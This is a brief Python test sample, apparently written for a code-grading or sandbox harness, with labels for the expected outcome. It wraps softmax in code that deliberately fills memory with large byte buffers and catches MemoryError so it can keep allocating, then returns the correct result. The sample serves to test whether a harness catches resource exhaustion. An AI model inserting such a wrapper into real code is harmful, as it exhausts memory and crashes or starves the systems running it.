"""The MemoryError is caught, everything is held, and the attack goes on in smaller pieces: the answer has no room left.

base: right
verdict: memory|timeout|error|crashed
varies: yes
row: harm: memory
"""
_leak = []
_softmax = softmax


def softmax(x):
    for size in (2**22, 2**18):
        try:
            while len(_leak) < 700:
                _leak.append(b"x" * size)
        except MemoryError:
            continue
    return _softmax(x)
